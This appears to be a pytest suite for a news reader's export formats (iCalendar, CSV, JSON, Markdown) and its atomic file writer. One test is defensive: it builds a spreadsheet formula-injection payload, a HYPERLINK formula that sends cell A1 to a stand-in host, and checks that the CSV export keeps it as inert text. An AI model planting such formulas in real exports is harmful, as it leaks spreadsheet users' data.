"""Each export format parses back to what the analysis holds."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
from datetime import UTC, date, datetime

import icalendar
import pytest
from markdown_it import MarkdownIt

from reader.exports import render
from reader.exports.files import write_atomically
from reader.exports.ics import fold, span
from reader.exports.tables import inert
from reader.model import Actor, Analysis, Article, Event, document

TEXT = (
    "The harbour board met on 3 March 2024. "
    "Mayor Ana *Ruiz*, the board's chair, spoke; dock workers, unions and crews listened. "
    "Talks run from 4 March until 6 March 2024. "
    "Inspections are planned for week 12 of 2024. "
    "A vote follows in April 2024."
)


def sentence_span(text: str) -> tuple[int, int]:
    start = TEXT.index(text)
    return start, start + len(text)


ARTICLE = Article(
    text=TEXT,
    title='Harbour board, "Port, Ltd"; a vote',
    published=date(2024, 3, 3),
    source="The Gazette",
    url="https://example.org/news/harbour-board-meets-to-discuss-the-future-of-the-docks-2024",
)
ANALYSIS = Analysis(
    actors=[
        Actor(
            "a1", "Ana *Ruiz*", "person", ["Mayor", "chair, harbour board"], ["Ruiz"], [(1, 2)] * 3
        ),
        Actor("a2", "harbour\x1bboard\nLtd", "organization", [], [], [(4, 5)]),
    ],
    events=[
        Event(
            "e1",
            "2024-03-03",
            "t1",
            sentence_span("The harbour board met on 3 March 2024."),
            "The harbour board met",
            ["a2"],
        ),
        Event(
            "e2",
            "2024-03-04",
            "t2",
            sentence_span("Talks run from 4 March until 6 March 2024."),
            "Talks run",
            [],
            "2024-03-06",
        ),
        Event(
            "e3",
            "2024-W12",
            "t3",
            sentence_span("Inspections are planned for week 12 of 2024."),
            "Inspections; planned, soon",
            [],
        ),
        Event(
            "e4",
            "2024-04",
            "t4",
            sentence_span("A vote follows in April 2024."),
            "A vote follows",
            ["a1"],
        ),
    ],
)
ITEMS = [(ARTICLE, ANALYSIS)]


def test_the_calendar_parses_back_with_its_days_sentences_and_link():
    rendered = render("ics", ITEMS, stamp=datetime(2024, 3, 5, 12, tzinfo=UTC))
    assert rendered.note == "1 event without a day or week left out"  # the month
    calendar = icalendar.Calendar.from_ical(rendered.text)
    events = list(calendar.walk("VEVENT"))
    spans = [(e.decoded("DTSTART"), e.decoded("DTEND")) for e in events]
    assert spans == [
        (date(2024, 3, 3), date(2024, 3, 4)),
        (date(2024, 3, 4), date(2024, 3, 7)),  # the range, its last day included
        (date(2024, 3, 18), date(2024, 3, 25)),  # week 12, Monday to Sunday
    ]
    assert [str(e["SUMMARY"]) for e in events][2] == "Inspections; planned, soon"
    assert str(events[1]["DESCRIPTION"]) == "Talks run from 4 March until 6 March 2024."
    assert all(str(e["URL"]) == ARTICLE.url for e in events)
    assert len({str(e["UID"]) for e in events}) == 3


def test_calendar_lines_are_folded_at_75_octets_and_end_in_crlf():
    text = render("ics", ITEMS).text
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    assert max(len(line.encode()) for line in text.split("\r\n")) <= 75
    folded = fold("SUMMARY:" + "é" * 60)
    assert all(len(line.encode()) <= 75 for line in folded.split("\r\n"))
    assert folded.replace("\r\n ", "") == "SUMMARY:" + "é" * 60


def test_a_day_before_the_year_1000_is_written_with_four_digits_of_year():
    """A feed may date its entry 0999: DATE values are eight digits (RFC 5545, 3.3.4)."""
    old = Event("e1", "0999-03-03", "t1", sentence_span(TEXT[:38]), "The harbour board met", [])
    text = render("ics", [(ARTICLE, Analysis(actors=[], events=[old]))]).text
    assert "DTSTART;VALUE=DATE:09990303\r\n" in text
    [event] = icalendar.Calendar.from_ical(text).walk("VEVENT")
    assert (event.decoded("DTSTART"), event.decoded("DTEND")) == (date(999, 3, 3), date(999, 3, 4))


@pytest.mark.parametrize(
    ("value", "days"),
    [
        ("2024-02-29", (date(2024, 2, 29), date(2024, 3, 1))),
        ("2024-02-29TEV", (date(2024, 2, 29), date(2024, 3, 1))),
        ("2024-W01-WE", (date(2024, 1, 6), date(2024, 1, 8))),
        ("2023-02-30", None),
        ("2024-W60", None),
        ("2024-Q1", None),
        ("before 2024-03-01", None),
        ("XXXX-03-01", None),
        ("9999-12-31", None),  # its end, the day after, is past the last date Python holds
        ("9999-W52", None),
    ],
)
def test_span_covers_days_and_weeks_only(value, days):
    assert span(value) == days


def test_the_actor_table_parses_back_one_row_per_actor():
    rows = list(csv.DictReader(io.StringIO(render("csv", ITEMS).text)))
    assert [r["name"] for r in rows] == ["Ana *Ruiz*", "harbour board Ltd"]  # controls gone
    assert rows[0]["roles"] == "Mayor; chair, harbour board"
    assert rows[0]["aliases"] == "Ruiz" and rows[0]["mentions"] == "3"
    assert rows[0]["kind"] == "person" and rows[1]["kind"] == "organization"
    assert {r["article"] for r in rows} == {ARTICLE.title}


@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(first):
    title = f'{first}HYPERLINK("https://example.org/?"&A1,"Open")'
    crafted = Article(text=TEXT, title=title, published=ARTICLE.published, source="feed")
    for what in ("actors", "events"):
        rows = list(
            csv.DictReader(io.StringIO(render("csv", [(crafted, ANALYSIS)], table=what).text))
        )
        assert rows and {r["article"] for r in rows} == {"'" + title}
    assert inert("2024-03-03") == "2024-03-03" and inert(3) == 3


def test_the_event_table_parses_back_one_row_per_event():
    rows = list(csv.DictReader(io.StringIO(render("csv", ITEMS, table="events").text)))
    assert [r["date"] for r in rows] == ["2024-03-03", "2024-03-04", "2024-W12", "2024-04"]
    assert rows[1]["end_date"] == "2024-03-06"
    assert rows[0]["actors"] == "harbour board Ltd" and rows[3]["actors"] == "Ana *Ruiz*"
    assert rows[3]["sentence"] == "A vote follows in April 2024."


def test_json_is_the_reader_document():
    assert json.loads(render("json", ITEMS).text) == json.loads(
        json.dumps(document(ARTICLE, ANALYSIS))
    )
    two = json.loads(render("json", ITEMS * 2).text)
    assert isinstance(two, list) and len(two) == 2


def test_markdown_notes_hold_actors_roles_dates_and_quotes_as_literal_text():
    text = render("markdown", ITEMS).text
    html = MarkdownIt().render(text)
    assert "<em>" not in html  # "*Ruiz*" in a name stays as written
    assert "Ana *Ruiz*" in html and "Mayor; chair, harbour board" in html
    assert "Sun 3 Mar 2024" in text and "Mon 4 Mar 2024 – Wed 6 Mar 2024" in text
    assert "<blockquote>" in html and "Talks run from 4 March until 6 March 2024." in html
    assert "\x1b" not in text


def test_a_pipe_is_written_into_not_replaced(tmp_path):
    """As /dev/stdout or /dev/null would be: moving a file over them replaces the device."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    got: list[str] = []
    listener = threading.Thread(target=lambda: got.append(pipe.read_text()), daemon=True)
    listener.start()
    write_atomically(pipe, "notes", force=True, into_streams=True)
    listener.join(5)
    assert got == ["notes"] and stat.S_ISFIFO(pipe.stat().st_mode)


def test_a_pipe_is_refused_at_once_unless_streams_are_wanted(tmp_path):
    """The app's Export… runs where a pipe with no reader would hang it."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    raised: list[BaseException] = []

    def export() -> None:
        try:
            write_atomically(pipe, "notes", force=True)
        except OSError as error:
            raised.append(error)

    writer = threading.Thread(target=export, daemon=True)
    writer.start()
    writer.join(5)
    assert [type(e) for e in raised] == [FileExistsError] and "not a file" in str(raised[0])


def test_a_link_to_a_file_keeps_the_link_and_replaces_the_file(tmp_path):
    (tmp_path / "notes.md").write_text("first")
    link = tmp_path / "latest.md"
    link.symlink_to("notes.md")
    write_atomically(link, "second", force=True)
    assert link.is_symlink() and (tmp_path / "notes.md").read_text() == "second"


def test_writing_refuses_an_existing_file_unless_forced(tmp_path):
    path = tmp_path / "notes.md"
    write_atomically(path, "first")
    with pytest.raises(FileExistsError):
        write_atomically(path, "second")
    assert path.read_text() == "first"
    write_atomically(path, "second", force=True)
    assert path.read_text() == "second"
    assert [p.name for p in tmp_path.iterdir()] == ["notes.md"]  # no temporary file left
